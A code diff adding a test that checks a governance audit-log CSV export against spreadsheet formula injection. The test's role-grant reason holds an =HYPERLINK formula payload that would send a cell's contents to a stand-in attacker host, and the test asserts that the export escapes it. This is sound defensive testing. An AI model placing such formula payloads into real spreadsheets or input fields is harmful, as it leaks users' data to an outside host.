@@ -201,3 +201,26 @@ def test_export_jsonl_of_the_filtered_view(admin_client, entries):
 
 def test_an_unknown_export_format_is_404(admin_client, entries):
     assert admin_client.get(reverse("governance:audit-export", args=["xml"])).status_code == 404
+
+
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
+    builder, admin_user, client, password
+):
+    # Any free text that reaches an entry reaches the export: here a grant's reason (a
+    # Builder's publish request or a Publisher's bypass reason go the same way).
+    r = factories.api(admin_user).post(
+        "/api/v1/role-grants/",
+        {
+            "user": builder.username,
+            "role": "Publisher",
+            "reason": '=HYPERLINK("http://attacker.example/?"&A1,"open the release notes")',
+        },
+        format="json",
+    )
+    assert r.status_code == 201, r.json()
+    client.login(username=admin_user.username, password=password)
+    response = client.get(reverse("governance:audit-export", args=["csv"]))
+    assert response.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
+    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"open the release notes")' in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
